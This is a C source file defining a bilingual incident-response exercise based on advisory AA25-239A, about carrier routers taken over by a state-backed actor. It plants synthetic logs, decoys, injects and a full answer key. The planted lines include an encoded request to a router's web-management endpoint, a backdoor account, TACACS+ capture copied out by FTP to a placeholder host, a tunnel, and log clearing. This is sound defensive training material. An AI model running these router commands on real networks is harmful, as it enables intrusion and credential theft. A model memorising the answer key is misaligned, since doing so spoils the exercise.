/*
 * src/exercise/scenario_salt.c - a carrier's routers taken over, as AA25-239A
 * describes it: in through the management web page of an edge router, an account,
 * open ports and lists, the TACACS+ traffic captured and carried out, a tunnel,
 * logs cleared. Behaviour ids are those of knowledge/advisories.
 */
#include "exercise/shapes_priv.h"

#define SECRET "secret 9 " NORO_EXERCISE_MARK

static const struct plant plants[] = {
	/* the way in */
	{ EV_MGMT, 8, 1705, 3, 40, false, "ipv4", "$a1", NULL,
		{ "The management page is looked at from outside", "管理画面が外部から閲覧された" },
		WEB("$a1", "GET /webui/ HTTP/1.1", "200", BROWSER) },
	{ EV_MGMT, 8, 1712, 2, 20, false, "ipv4", "$a1", "BHV-05",
		{ "Doubly encoded request to the WSMA endpoint",
			"WSMAエンドポイントへの二重エンコード要求" },
		WEB("$a1", "POST /%2577eb%2575i_%2577sma_Http HTTP/1.1", "200", "-") },
	{ EV_MGMT, 8, 1714, 1, 0, false, "ipv4", "$a1", "BHV-05",
		{ "The same over the second spelling", "同じ要求の別表記" },
		WEB("$a1", "POST /%2577eb%2575i_%2577sma_Https HTTP/1.1", "200", "-") },
	{ EV_IOS, 8, 1716, 1, 0, false, NULL, NULL, "BHV-07",
		{ "A local account of the highest privilege is made",
			"最高権限のローカルアカウントが作成された" },
		IOS("pe1-tyo", LOGGED("webui", "username cisco privilege 15 " SECRET)) },
	{ EV_IOS, 8, 1719, 1, 0, false, "ipv4", "$a1", NULL,
		{ "The new account logs in over the web page",
			"新しいアカウントがWeb画面からログインした" },
		IOS("pe1-tyo", "%WEBSERVER-5-LOGIN_PASSED: Login Successful from host $a1 by user "
			       "'cisco' using "
			       "crypto cipher 'ECDHE-RSA-AES128-GCM-SHA256'") },
	{ EV_MGMT, 9, 1603, 4, 60, false, "ipv4", "$a2", "BHV-06",
		{ "Commands run through the web server", "Webサーバー経由でコマンドが実行された" },
		WEB("$a2", "GET /level/15/exec/-/show/running-config/CR HTTP/1.1", "200", "-") },
	/* doors that stay open */
	{ EV_IOS, 9, 1621, 1, 0, false, "ipv4", "$a2", "BHV-01",
		{ "An access list is opened for an outside host",
			"アクセスリストが外部ホストに対して開放された" },
		IOS("pe1-tyo", LOGGED("cisco", "access-list 20 permit $a2")) },
	{ EV_IOS, 9, 1623, 1, 0, false, NULL, NULL, "BHV-02",
		{ "SSH is put on a high port", "SSHが高位ポートで待ち受けるようにされた" },
		IOS("pe1-tyo", LOGGED("cisco", "ip ssh port 22522 rotary 1")) },
	{ EV_IOS, 9, 1625, 1, 0, false, NULL, NULL, "BHV-03",
		{ "Web management is moved to an 18xxx port", "Web管理が18xxxポートに移された" },
		IOS("pe1-tyo", LOGGED("cisco", "ip http secure-port 18443")) },
	{ EV_CONN, 9, 1640, 18, 39600, false, "ipv4", "$a2", "BHV-02",
		{ "Sessions to the SSH port that was opened", "開けられたSSHポートへの接続" },
		CONN("$a2", "$p", "203.0.113.1", "22522", "tcp", "ssh", "$z", "$z", "SF") },
	{ EV_IOS, 9, 1641, 6, 120000, false, "ipv4", "$a2", NULL,
		{ "The account logs in from outside", "外部からのログイン" },
		IOS("pe1-tyo",
			"%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: cisco] [Source: $a2] "
			"[localport: 22522] at $M UTC") },
	{ EV_CONN, 10, 1510, 3, 7200, false, "ipv4", "$a1", "BHV-03",
		{ "Web management used on the new port", "新しいポートでのWeb管理の使用" },
		CONN("$a1", "$p", "203.0.113.1", "18443", "tcp", "ssl", "$z", "$z", "SF") },
	/* credentials off the wire */
	{ EV_AAA, 11, 1603, 1, 0, false, "ipv4", "$a2", NULL,
		{ "Commands by the new account from outside are accounted",
			"新しいアカウントによる外部からの操作の記録" },
		ACCOUNT("10.10.1.1", "cisco", "$a2", "show tacacs") },
	{ EV_AAA, 11, 1605, 1, 0, false, "ipv4", "$a2", "BHV-10",
		{ "A capture of TACACS+ is set up on the router",
			"ルーター上でTACACS+のキャプチャが設定された" },
		ACCOUNT("10.10.1.1", "cisco", "$a2",
			"monitor capture mycap interface GigabitEthernet0/0/1 both") },
	{ EV_AAA, 11, 1606, 1, 0, false, NULL, NULL, "BHV-10",
		{ "The capture is narrowed to TCP/49", "キャプチャの対象がTCP/49に絞られた" },
		ACCOUNT("10.10.1.1", "cisco", "$a2",
			"monitor capture mycap match ipv4 protocol tcp any any eq 49") },
	{ EV_AAA, 11, 1607, 1, 0, false, NULL, NULL, "BHV-10",
		{ "The capture starts", "キャプチャが開始された" },
		ACCOUNT("10.10.1.1", "cisco", "$a2", "monitor capture mycap start") },
	{ EV_AAA, 12, 1615, 1, 0, false, NULL, NULL, "BHV-11",
		{ "The capture is written to flash", "キャプチャがフラッシュに書き出された" },
		ACCOUNT("10.10.1.1", "cisco", "$a2",
			"monitor capture mycap export bootflash:tac.pcap") },
	{ EV_AAA, 12, 1618, 1, 0, false, "ipv4", "$a3", "BHV-23",
		{ "The capture is copied out by FTP", "キャプチャがFTPで持ち出された" },
		ACCOUNT("10.10.1.1", "cisco", "$a2",
			"copy bootflash:tac.pcap ftp://" NORO_EXERCISE_MARK "@$a3/") },
	{ EV_CONN, 12, 1619, 1, 0, false, "ipv4", "$a3", "BHV-23",
		{ "FTP from the router to an outside host", "ルーターから外部ホストへのFTP" },
		CONN("203.0.113.1", "$p", "$a3", "21", "tcp", "ftp", "48211930", "1204", "SF") },
	{ EV_IOS, 13, 1703, 1, 0, false, NULL, NULL, "BHV-15",
		{ "Guest Shell is turned on", "Guest Shellが有効化された" },
		IOS("pe1-tyo", LOGGED("cisco", "guestshell enable")) },
	{ EV_AAA, 13, 1706, 1, 0, false, NULL, NULL, "BHV-15",
		{ "A shell is run in it", "その中でシェルが実行された" },
		ACCOUNT("10.10.1.1", "cisco", "$a2", "guestshell run bash") },
	{ EV_IOS, 14, 1611, 1, 0, false, NULL, NULL, "BHV-09",
		{ "A TACACS+ server is added", "TACACS+サーバーが追加された" },
		IOS("pe1-tyo", LOGGED("cisco", "tacacs server BACKUP2")) },
	{ EV_IOS, 14, 1612, 1, 0, false, "ipv4", "$a4", "BHV-09",
		{ "It is an outside host", "その宛先は外部ホストである" },
		IOS("pe1-tyo", LOGGED("cisco", "address ipv4 $a4")) },
	{ EV_CONN, 14, 1620, 10, 43200, false, "ipv4", "$a4", "BHV-09",
		{ "TACACS+ leaves the network", "TACACS+通信が外部に出ている" },
		CONN("203.0.113.1", "$p", "$a4", "49", "tcp", "-", "$r", "$r", "SF") },
	/* further inside */
	{ EV_XR, 15, 1555, 1, 0, false, "ipv4", "$a5", NULL,
		{ "Login to a core router with a stolen account",
			"盗まれたアカウントによるコアルーターへのログイン" },
		XRLINE("core1-tyo", "SSHD_[65790]: %SECURITY-SSHD-6-INFO_SUCCESS : Successfully "
				    "authenticated user "
				    "'netops' from '$a5' on 'vty1'(cipher 'aes256-ctr', mac "
				    "'hmac-sha2-256')") },
	{ EV_AAA, 15, 1601, 1, 0, false, "ipv4", "$a5", "BHV-04",
		{ "The host's own SSH service is started on IOS XR",
			"IOS XRのホスト側SSHサービスが起動された" },
		ACCOUNT("10.10.1.3", "netops", "$a5", "run service sshd_operns start") },
	{ EV_CONN, 15, 1610, 5, 86400, false, "ipv4", "$a5", "BHV-04",
		{ "Sessions to TCP/57722", "TCP/57722への接続" },
		CONN("$a5", "$p", "203.0.113.3", "57722", "tcp", "ssh", "$z", "$z", "SF") },
	{ EV_IOS, 16, 1632, 1, 0, false, NULL, NULL, "BHV-13",
		{ "A tunnel interface is added", "トンネルインターフェースが追加された" },
		IOS("pe1-tyo", LOGGED("cisco", "interface Tunnel99")) },
	{ EV_IOS, 16, 1634, 1, 0, false, "ipv4", "$a4", "BHV-13",
		{ "The tunnel ends at an outside host", "トンネルの終端は外部ホストである" },
		IOS("pe1-tyo", LOGGED("cisco", "tunnel destination $a4")) },
	{ EV_ASA, 16, 1640, 2, 90000, false, "ipv4", "$a4", "BHV-13",
		{ "GRE to the outside host", "外部ホストへのGRE" },
		"$B fw1-tyo : %ASA-6-302017: Built outbound GRE connection $n from "
		"inside:203.0.113.1 "
		"(203.0.113.1) to outside:$a4/0 ($a4/0)" },
	{ EV_IOS, 17, 1602, 1, 0, false, "ipv4", "$a4", "BHV-14",
		{ "A static route leads to the tunnel's far end",
			"トンネルの対向に向かう静的経路が追加された" },
		IOS("pe1-tyo", LOGGED("cisco", "ip route 10.30.0.0 255.255.255.0 $a4")) },
	{ EV_AUTH, 18, 1544, 2, 3600, false, "ipv4", "$a6", "BHV-24",
		{ "The automation account comes from a new source",
			"自動化用アカウントが新しい接続元から使用された" },
		"$I jump1 sshd[$r]: Accepted password for rancid from $a6 port $p ssh2" },
	{ EV_IOS, 18, 1550, 14, 25, false, "ipv4", "$a6", "BHV-17",
		{ "SNMP with guessed communities", "推測したコミュニティ名によるSNMP" },
		IOS("ce1-fuk",
			"%SNMP-3-AUTHFAIL: Authentication failure for SNMP req from host $a6") },
	{ EV_DNS, 18, 1600, 14, 43000, false, "domain", "$d1", NULL,
		{ "A beacon resolves a name below a listed domain",
			"ビーコンが一覧のドメイン配下の名前を解決した" },
		DNSQ("10.30.0.21", "c$r.$d1", "$a7") },
	{ EV_EVE, 18, 1601, 6, 90000, false, "domain", "$d1", NULL,
		{ "TLS to the listed domain", "一覧のドメインへのTLS接続" },
		EVELINE("tls", "10.30.0.21", "198.18.7.7", "443",
			"\"tls\":{\"subject\":\"CN=$d1\",\"issuerdn\":\"CN=Example "
			"CA\",\"sni\":\"$d1\",\"version\":"
			"\"TLS 1.2\"}") },
	{ EV_CONN, 19, 1622, 4, 70000, false, "ipv6", "$v1", NULL,
		{ "The same beacon over IPv6", "同じビーコンのIPv6通信" },
		CONN("2001:db8:c0de:30::21", "$p", "$v1", "443", "tcp", "ssl", "$z", "$z", "SF") },
	{ EV_EVE, 19, 1630, 1, 0, false, "sha256", "$x1", NULL,
		{ "A listed file is fetched", "一覧のファイルがダウンロードされた" },
		EVELINE("fileinfo", "$a7", "10.30.0.21", "80",
			"\"fileinfo\":{\"filename\":\"/pkg/" NORO_EXERCISE_MARK
			".bin\",\"state\":\"CLOSED\",\"stored\":"
			"false,\"sha256\":\"$x1\",\"size\":2411724,\"tx_id\":0}") },
	{ EV_JUNOS, 20, 1606, 1, 0, false, "ipv4", "$a6", NULL,
		{ "Login to an aggregation router", "集約ルーターへのログイン" },
		"$B agg1-ngo sshd[$r]: Accepted password for netops from $a6 port $p ssh2" },
	/* carrying out, cleaning up */
	{ EV_FORTI, 21, 1615, 5, 20000, false, "ipv4", "$a4", "BHV-25",
		{ "Much data leaves for the outside host", "外部ホストへの大量のデータ送信" },
		FORTILINE("srcip=10.30.0.21 srcport=$p srcintf=\"servers\" dstip=$a4 dstport=443 "
			  "dstintf=\"wan1\" "
			  "proto=6 action=\"close\" policyid=12 service=\"HTTPS\" duration=1780 "
			  "sentbyte=913245184 "
			  "rcvdbyte=81234") },
	{ EV_AAA, 22, 1702, 1, 0, false, NULL, NULL, "BHV-20",
		{ "The log buffer is cleared", "ログバッファが消去された" },
		ACCOUNT("10.10.1.1", "cisco", "$a2", "clear logging") },
	{ EV_AAA, 22, 1704, 1, 0, false, NULL, NULL, "BHV-20",
		{ "The log server is taken out; the routers are silent for five hours",
			"ログサーバーの設定が外され、ルーターのログが5時間途絶えた" },
		ACCOUNT("10.10.1.1", "cisco", "$a2", "no logging host 10.10.0.5") },
	{ EV_CONN, 23, 1609, 3, 50000, false, "ipv4", "$a3", NULL,
		{ "Last transfers to the staging host", "中継ホストへの最後の転送" },
		CONN("203.0.113.1", "$p", "$a3", "443", "tcp", "ssl", "60481236", "20480", "SF") },
	/* decoys */
	{ EV_ASA, 2, 312, 3, 5000, true, "ipv4", "$s1", NULL, STALE_TEXT,
		"$B fw1-tyo : %ASA-4-106023: Deny tcp src outside:$s1/$p dst dmz:203.0.113.20/23 "
		"by access-group "
		"\"outside_in\" [0x0, 0x0]" },
	{ EV_PORTAL, 3, 740, 2, 900, true, "ipv4", "$s2", NULL, STALE_TEXT,
		WEB("$s2", "GET /news/ HTTP/1.1", "200", BROWSER) },
	{ EV_CONN, 27, 502, 2, 3600, true, "ipv4", "$s3", NULL, AFTER_TEXT,
		CONN("$s3", "$p", "203.0.113.20", "443", "tcp", "ssl", "$z", "$z", "SF") },
	{ EV_PORTAL, 10, 402, 3, 4000, true, "ipv4", "$l1", NULL, LIKE_TEXT,
		WEB("$l1", "GET /faq.html HTTP/1.1", "200", BROWSER) },
	LOOKALIKES,
	{ EV_MGMT, 12, 230, 2, 30, true, "ipv4", "$k1", "BHV-05", SCANNER_TEXT,
		WEB("$k1", "POST /%2577eb%2575i_%2577sma_Http HTTP/1.1", "404",
			"example-scanner/4.2") },
	{ EV_MGMT, 12, 232, 2, 30, true, "ipv4", "$k1", "BHV-06", SCANNER_TEXT,
		WEB("$k1", "GET /level/15/exec/-/show/version/CR HTTP/1.1", "404",
			"example-scanner/4.2") },
	RESOLVER,
	{ EV_AAA, 14, 203, 1, 0, true, NULL, NULL, "BHV-07", APPROVED_TEXT,
		ACCOUNT("10.10.1.2", "nocadm", "10.10.9.21",
			"username oncall2 privilege 15 " SECRET) },
	{ EV_AAA, 14, 208, 1, 0, true, NULL, NULL, "BHV-01", APPROVED_TEXT,
		ACCOUNT("10.10.1.2", "nocadm", "10.10.9.21",
			"access-list 20 permit 10.10.9.0 0.0.0.255") },
	{ EV_AAA, 16, 211, 1, 0, true, NULL, NULL, "BHV-13", APPROVED_TEXT,
		ACCOUNT("10.10.1.2", "tanaka", "10.10.9.22", "interface Tunnel10") },
	{ 0 },
};

static const struct inject injects[] = {
	HAND_OUT,
	{ 20, { "The police call: an advisory on routers of carriers came out this morning. \"Are "
		"you affected? Since when?\"",
		      "警察から電話が入る。「今朝、通信事業者のルーターに関する注意喚起が公表された"
		      "。貴社に影響はあるか。いつからか。」" } },
	{ 45, { "The head of operations asks: \"Can we just reload pe1-tyo tonight?\" Say what "
		"would be lost.",
		      "運用部長からの質問。「今夜pe1-"
		      "tyoを再起動すればよいのではないか。」再起動で何が失われるかを答えること"
		      "。" } },
	{ 70, { "A customer reports that its VPN tunnel details were quoted back to it by a "
		"stranger.",
		      "顧客から連絡。自社のVPNトンネルの設定内容を、見知らぬ相手が知っていたという"
		      "。" } },
	{ 90, { "The security team of another carrier asks for your indicators. Decide what you "
		"share, and under which TLP.",
		      "他の通信事業者のセキュリティ担当から、侵害指標の共有を求められる。何を、どの"
		      "TLPで共有するかを決めること。" } },
	BOARD(110),
	{ 0, { NULL, NULL } },
};

const struct scenario noro_exercise_salt = {
	.name = "salt-typhoon",
	.advisory = "AA25-239A",
	.plant = plants,
	.silent_day = 22,
	.silent_from = 17,
	.silent_hours = 5,
	.brief = {
		.situation = {
			"You run the network of a small carrier: six edge routers, two core routers, two aggregation routers, two "
			"firewalls, a customer portal. A joint advisory on state-backed actors in carriers' routers came out "
			"today, with a list of indicators. You have four weeks of logs.",
			"あなたは小規模な通信事業者のネットワークを運用している。エッジルーター6台、コアルーター2台、集約ルーター2台、"
			"ファイアウォール2台、顧客向けポータルがある。本日、通信事業者のルーターを狙う国家支援型アクターに関する国際共同文書が"
			"侵害指標とともに公表された。手元には4週間分のログがある。" },
		.question = {
			"1. Are we hit? Which devices, and since when?\n2. How did they come in, and what keeps the door open?\n"
			"3. What was taken?\n4. Which hits are false, stale or allowed, and why?\n5. What could the logs not have "
			"shown?\n6. What do you do first, what tomorrow, and whom do you tell?",
			"1. 侵害されているか。どの機器が、いつからか。\n2. どこから侵入され、何が侵入口を開いたままにしているか。\n"
			"3. 何が持ち出されたか。\n4. 誤検知、期間外、許可済みの一致はどれか。その理由は何か。\n"
			"5. これらのログでは分からないことは何か。\n6. 最初に何をし、明日何をし、誰に知らせるか。" },
		.answer = {
			"pe1-tyo was taken over on day 9 through its management web page, which could be reached from outside. The "
			"account `cisco` (privilege 15), access list 20, SSH on 22522 and web management on 18443 kept it open. "
			"TACACS+ was captured on the router and copied out by FTP; with those passwords they reached core1-tyo (host "
			"SSH, TCP/57722), the jump host (account `rancid`) and agg1-ngo. A tunnel and a static route carried data "
			"out. On day 23 the logs were cleared and the log server was taken out: the routers are silent for five "
			"hours, and nobody can say from syslog what happened in them.",
			"9日目、外部から到達できる状態だったWeb管理画面を経由してpe1-tyoが乗っ取られた。アカウント`cisco`（特権レベル15）、"
			"アクセスリスト20、22522番のSSH、18443番のWeb管理が侵入口を維持した。ルーター上でTACACS+通信が"
			"キャプチャされ、FTPで持ち出された。得られたパスワードにより、core1-tyo（ホスト側SSH、TCP/57722）、踏み台"
			"サーバー（アカウント`rancid`）、agg1-ngoへ侵害が広がった。データはトンネルと静的経路を通じて持ち出された。23日目にはログが"
			"消去され、ログサーバーの設定が外された。ルーターのログは5時間途絶えており、その間の出来事はsyslogからは分からない。" },
		.lesson = {
			"First: preserve (show output, flash listing, memory, before any reload), take management off the Internet, "
			"remove account, lists, ports, tunnel and route together on all devices, then change every secret that "
			"crossed TACACS+. Tell the police and the national CERT before the actor notices.",
			"最初に証拠を保全する（再起動の前にshowの出力、フラッシュの一覧、メモリを取得する）。管理画面をインターネットから"
			"切り離す。アカウント、アクセスリスト、ポート、トンネル、経路は全機器で同時に取り除き、その後TACACS+を通った秘密情報を"
			"すべて変更する。相手に気付かれる前に、警察とCERTに連絡する。" },
		.inject = injects,
	},
};
